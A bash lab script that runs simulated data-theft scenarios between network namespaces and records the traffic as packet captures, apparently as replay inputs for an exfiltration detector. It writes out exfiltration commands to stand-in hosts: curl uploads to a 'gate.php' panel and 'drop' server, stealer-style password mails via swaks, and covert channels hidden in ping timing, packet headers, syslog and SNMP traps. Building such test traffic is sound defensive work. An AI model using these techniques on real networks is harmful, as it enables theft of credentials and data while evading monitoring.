#!/bin/bash
# SPDX-License-Identifier: MIT
# theft.sh SCENARIO...|all|list: data taken out by everyday programs, between the namespaces of ns.sh, recorded at the gateway
# into tests/replay/<scenario>/input.pcap.
#
# Needs root and (Debian names): tcpdump ethtool iproute2 iputils-ping curl wget zip nginx-light vsftpd lftp swaks
# python3-aiosmtpd netcat-openbsd openssl samba smbclient bsdextrautils bsdutils
# snmp sip-tester socat hping3 traceroute mtr-tiny.
set -eu
export XFL_PREFIX=${XFL_PREFIX:-thf}
all=(http_archive_curl ftp_report_curl mail_report_swaks raw_pieces_nc posts_curl program_wget covert_ping staged_smbclient
    logs_logger traps_snmptrap udp_push_socat silent_push_socat benign_exports header_pings header_syns benign_headers benign_theft_tools benign_messages)
# shellcheck source=tests/lab/lab.sh
. "$(dirname "$0")/lab.sh"
out=203.0.113.20
user=thflab # made for the run, and removed
browser='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36'

prepare() {
    mkdir -p "$dir"/{www/up,tmp,ftp,share,me,empty}
    python3 "$here/customers.py" 400 >"$dir/me/customers.csv"
    head -c 12000000 /dev/zero | openssl enc -aes-256-ctr -nosalt -K "$(printf '%064d' 7)" -iv "$(printf '%032d' 7)" 2>/dev/null \
        >"$dir/share/plans.img"
    head -c 6000 /bin/true >"$dir/www/logo.jpg"
    for _ in $(seq 60); do echo '<p>A page about tea, bread and the weather of the coming week.'; done >"$dir/www/index.html"
    printf '<html><h1>Passwords of jo on DESKTOP-4QX71</h1>\nURL: https://mail.example.test\nUsername: jo\nPassword: Summer-1\n' \
        >"$dir/me/PW_jo-DESKTOP-4QX71_2026_09_21_14_13_22.html"
    printf '\x89PNG\r\n\x1a\n' | cat - <(head -c 9000 "$dir/share/plans.img") >"$dir/me/screen.png"
    web
    id -u $user >/dev/null 2>&1 || useradd -M -d "$dir/ftp" -s /bin/sh $user
    echo "$user:report24" | chpasswd
    usermod -d "$dir/ftp" $user
    chown $user "$dir/ftp"
    chmod -R a+rX "$dir"
    ftpd
    bg smtpd "${srv[@]}" /usr/bin/python3 -m aiosmtpd -n -l 203.0.113.23:587 -c aiosmtpd.handlers.Debugging stdout
    sleep 1
}

web() { # pages, a folder that takes what is put there, an address that takes posts, and one that tells the caller's
    cat >"$dir/nginx.conf" <<CONF
daemon off; pid $dir/nginx.pid; error_log $dir/nginx.err; user root;
events {}
http { access_log off; client_max_body_size 0; client_body_temp_path $dir/tmp; proxy_temp_path $dir/tmp; fastcgi_temp_path $dir/tmp;
 uwsgi_temp_path $dir/tmp; scgi_temp_path $dir/tmp;
 server { listen $out:8000; listen $out:80; root $dir/www; location /up { dav_methods PUT; create_full_put_path on; }
  location /gate.php { return 200 ok; } }
 server { listen 203.0.113.21:80; location / { return 200 '{"ip":"10.20.1.10"}'; } } }
CONF
    bg nginx "${srv[@]}" nginx -c "$dir/nginx.conf"
}

ftpd() {
    cat >"$dir/vsftpd.conf" <<CONF
listen=YES
listen_address=$out
local_enable=YES
write_enable=YES
anonymous_enable=NO
pam_service_name=vsftpd
secure_chroot_dir=$dir/empty
seccomp_sandbox=NO
CONF
    bg vsftpd "${srv[@]}" /usr/sbin/vsftpd "$dir/vsftpd.conf"
}

own_address() { # what programs of this kind do first
    "${cli[@]}" curl -s -m 5 -A "$browser" --resolve api.ipify.org:80:203.0.113.21 http://api.ipify.org/?format=json || true
}

# ---- scenarios ----

http_archive_curl() { # a table in an encrypted archive, put on a bare address
    (cd "$dir/me" && zip -q -P Winter-24 c.zip customers.csv)
    "${cli[@]}" curl -s -m 10 -T "$dir/me/c.zip" http://$out:8000/up/c.zip
}

ftp_report_curl() { # a report of passwords, named for user, machine and time
    own_address
    "${cli[@]}" curl -s -m 10 -u $user:report24 -T "$dir/me/PW_jo-DESKTOP-4QX71_2026_09_21_14_13_22.html" ftp://$out/
}

mail_report_swaks() { # two mails to the own account: passwords, then a picture of the screen
    own_address
    local -a mail=("${cli[@]}" swaks -n --server 203.0.113.23:587 --from drop@example.net --to drop@example.net --ehlo DESKTOP-4QX71
        --header-X-Mailer '' --suppress-data)
    "${mail[@]}" --header 'Subject: PW_jo/DESKTOP-4QX71' --body $'Time: 09/21/2026\nUser Name: jo\nComputer Name: DESKTOP-4QX71\nOSFullName: Windows 10\nURL: https://mail.example.test\nUsername: jo\nPassword: Summer-1\n'
    "${mail[@]}" --header 'Subject: SC_jo/DESKTOP-4QX71' --body $'User Name: jo\nComputer Name: DESKTOP-4QX71\n' \
        --attach-type image/png --attach "@$dir/me/screen.png"
}

raw_pieces_nc() { # encrypted pictures, each over a connection of its own
    local i
    bg nc "${srv[@]}" nc -n -k -l -d $out 4433
    sleep 0.5
    for i in 1 2 3 4 5 6; do
        head -c 30000 "$dir/share/plans.img" | openssl enc -aes-256-ctr -pbkdf2 -nosalt -k "piece $i" 2>/dev/null |
            "${cli[@]}" nc -n -q 0 $out 4433
        sleep 3
    done
}
finish_raw_pieces_nc() { heads "$1" 8; }

posts_curl() { # encrypted reports to a script, by a program that calls itself a browser
    local i
    for i in 1 2 3 4 5 6; do
        head -c 300 "$dir/share/plans.img" | openssl enc -aes-256-ctr -pbkdf2 -nosalt -k "post $i" 2>/dev/null >"$dir/post"
        "${cli[@]}" curl -s -m 5 -A "$browser" --resolve panel.example.net:80:$out --data-binary "@$dir/post" http://panel.example.net/gate.php
        sleep 1
    done
}
finish_posts_curl() { longer "$1" 360; }

program_wget() { "${cli[@]}" wget -q -T 5 -O "$dir/me/got" http://$out/logo.jpg; }

covert_ping() { # a sentence as bits in the gaps of pings that are answered
    local text='meet at nine' bits i
    bits=$(printf %s "$text" | xxd -b -c 1 | cut -d' ' -f2 | tr -d '\n')
    for ((i = 0; i < ${#bits}; i++)); do
        "${cli[@]}" ping -q -e 77 -c 1 -W 1 $out >/dev/null || true
        if [ "${bits:i:1}" = 1 ]; then sleep 1.1; else sleep 0.5; fi
    done
}

staged_smbclient() { # images read from a file server, then sent away under another name
    local n
    for n in cli:xc0 srv:xs0 srv:xs1 gw:gin gw:gout gw:gsv; do # long segments: few frames for many bytes
        ip netns exec "$XFL_PREFIX-${n%:*}" ethtool -K "${n#*:}" gso on tso on gro on tx on rx on >/dev/null 2>&1 || true
    done
    shares
    "${cli[@]}" smbclient //10.20.2.20/share -s "$dir/smb.conf" -U 'CORP/root%Secret-1' -c "get plans.img $dir/me/plans"
    sleep 3
    "${cli[@]}" curl -s -m 30 -H 'Expect:' --resolve drop.example.net:80:$out -T "$dir/me/plans" http://drop.example.net/up/holiday.iso
}
snap_staged_smbclient() { echo 120; }

shares() {
    mkdir -p "$dir/smb"
    cat >"$dir/smb.conf" <<CONF
[global]
 workgroup = CORP
 netbios name = FILES
 bind interfaces only = yes
 interfaces = 10.20.2.20/24
 smb ports = 445
 lock directory = $dir/smb
 state directory = $dir/smb
 cache directory = $dir/smb
 pid directory = $dir/smb
 private dir = $dir/smb
 ncalrpc dir = $dir/smb/ncalrpc
 log file = $dir/smbd.log
 passdb backend = tdbsam:$dir/smb/passdb.tdb
 disable spoolss = yes
 load printers = no
 server smb encrypt = off
[share]
 path = $dir/share
CONF
    printf 'Secret-1\nSecret-1\n' | smbpasswd -c "$dir/smb.conf" -s -a root >/dev/null 2>&1
    bg smbd "${srv[@]}" smbd -F --no-process-group -s "$dir/smb.conf"
    sleep 1.5
}

logs_logger() { # an encrypted file as lines of a log
    head -c 12000 "$dir/share/plans.img" | base64 -w 600 | while read -r line; do
        "${cli[@]}" logger -n $out -P 514 -d -t backup "$line"
    done
}

traps_snmptrap() { # the same as texts of traps
    head -c 9000 "$dir/share/plans.img" | base64 -w 600 | while read -r line; do
        "${cli[@]}" snmptrap -v 2c -c public $out '' 1.3.6.1.4.1.8072.2.3.0.1 1.3.6.1.4.1.8072.2.3.2.1 s "$line"
    done
}

udp_push_socat() { # an encrypted file to a port where calls begin, and nobody answers
    bg sink "${srv[@]}" socat -u UDP4-RECV:3478,bind=$out /dev/null
    sleep 0.5
    head -c 2600000 "$dir/share/plans.img" | "${cli[@]}" socat -u -b 1400 - UDP4-SENDTO:$out:3478
}
snap_udp_push_socat() { echo 64; }

silent_push_socat() { # sealed bytes in datagrams to a bare address, and in an IP protocol that is nobody's
    local i
    for i in 1 2 3 4 5 6 7; do
        head -c "$((i * 7000))" "$dir/share/plans.img" | tail -c 7000 | "${cli[@]}" socat -u -b 1000 - UDP4-SENDTO:$out:5555,sourceport=40100
        head -c "$((i * 7000))" "$dir/share/plans.img" | tail -c 7000 | "${cli[@]}" socat -u -b 1000 - IP4-SENDTO:203.0.113.21:253
        sleep 1
    done
}
benign_exports() { # flow records and logs to a collector outside, and a program that gives up
    local i
    for i in 1 2 3 4 5 6 7 8; do
        head -c "$((i * 7000))" "$dir/share/plans.img" | tail -c 7000 | "${cli[@]}" socat -u -b 1400 - UDP4-SENDTO:$out:2055,sourceport=40100
        head -c 6000 "$dir/www/index.html" | "${cli[@]}" socat -u -b 900 - UDP4-SENDTO:$out:514,sourceport=40101
        head -c 1200 "$dir/share/plans.img" | "${cli[@]}" socat -u -b 148 - UDP4-SENDTO:203.0.113.21:41000,sourceport=40102
        sleep 1
    done
}

letters() { # text: the number of each letter
    printf %s "$1" | od -An -v -t u1 -w1 | tr -d ' '
}
header_pings() { # a text as lengths of pings, another as their times to live
    local n
    for n in $(letters 'the key is under the stone by the old mill'); do "${cli[@]}" ping -q -c 1 -W 1 -s "$n" $out || true; done
    for n in $(letters 'flag{a_wall_has_ears}'); do "${cli[@]}" ping -q -c 1 -W 1 -t "$n" 203.0.113.21 || true; done
}
header_syns() { # hping3: a text as source ports, another as first sequence numbers, a third as identifications
    local n i=0
    for n in $(letters 'meet jo at nine, come alone, bring plans'); do "${cli[@]}" hping3 -q -S -c 1 -p 8081 -s "$n" -k $out || true; done
    for n in $(letters 'the key is under the stone'); do
        "${cli[@]}" hping3 -q -S -c 1 -p 8081 -M $((n << 24)) 203.0.113.21 || true
    done
    for n in $(letters 'burn after reading'); do # a flow each
        "${cli[@]}" hping3 -q -2 -c 1 -p 8082 -s $((40000 + i++)) -N $((n << 8)) 203.0.113.22 || true
    done
}
benign_headers() { # ways that are traced, sizes that are tried, a server asked again and again
    local n
    "${cli[@]}" traceroute -n -q 3 -w 0.3 $out || true
    "${cli[@]}" traceroute -n -I -w 0.3 $out || true
    "${cli[@]}" mtr -n -r -c 8 -i 0.2 $out || true
    for n in $(seq 20 8 420); do "${cli[@]}" ping -q -c 1 -W 1 -s "$n" $out || true; done
    for n in $(seq 40); do "${cli[@]}" curl -s -m 5 -o /dev/null http://$out/index.html || true; done
}

benign_messages() { # logs and traps to a provider's servers, and calls
    local i
    bg uas "${srv[@]}" sipp -sn uas -i $out -p 5060 -nostdin
    for i in $(seq 60); do
        "${cli[@]}" logger -n $out -P 514 -d -t sshd "Accepted publickey for jo from 10.20.1.$i port $((40000 + i)) ssh2: ED25519 SHA256:$(
            echo "$i" | sha256sum | xxd -r -p | base64 -w 0 | tr -d =)"
        "${cli[@]}" logger -n $out -P 514 -d -t proxy "10.20.1.$i GET http://shop.example.test/a?sum=$(echo "$i" | sha256sum | cut -c1-64) 200"
        "${cli[@]}" snmptrap -v 2c -c public 203.0.113.21 '' 1.3.6.1.6.3.1.1.5.3 1.3.6.1.2.1.2.2.1.2 s "GigabitEthernet0/$((i % 24))"
    done
    "${cli[@]}" timeout 30 sipp -sn uac $out:5060 -i 10.20.1.10 -p 5060 -m 20 -r 10 -d 200 -nostdin || true
}

benign_theft_tools() { # the same programs, as people use them
    "${cli[@]}" lftp -u $user,report24 $out -e "set net:timeout 5; ls; put $dir/www/index.html -o minutes.txt; ls; bye"
    "${cli[@]}" swaks -n --suppress-data --server 203.0.113.23:587 --from jo@example.test --to kim@example.org --ehlo pc7.example.test \
        --header 'Subject: lunch' --body 'At one, by the gate?'
    "${cli[@]}" curl -s -m 5 --resolve files.example.test:80:$out -T "$dir/me/screen.png" http://files.example.test/up/screen.png
    "${cli[@]}" wget -q -T 5 -O /dev/null http://$out/index.html
    "${cli[@]}" ping -q -c 30 -i 0.2 $out
    echo 'a note' | "${cli[@]}" nc -n -q 0 $out 80
}

undo() { userdel -f $user 2>/dev/null || true; }

run_lab "$@"
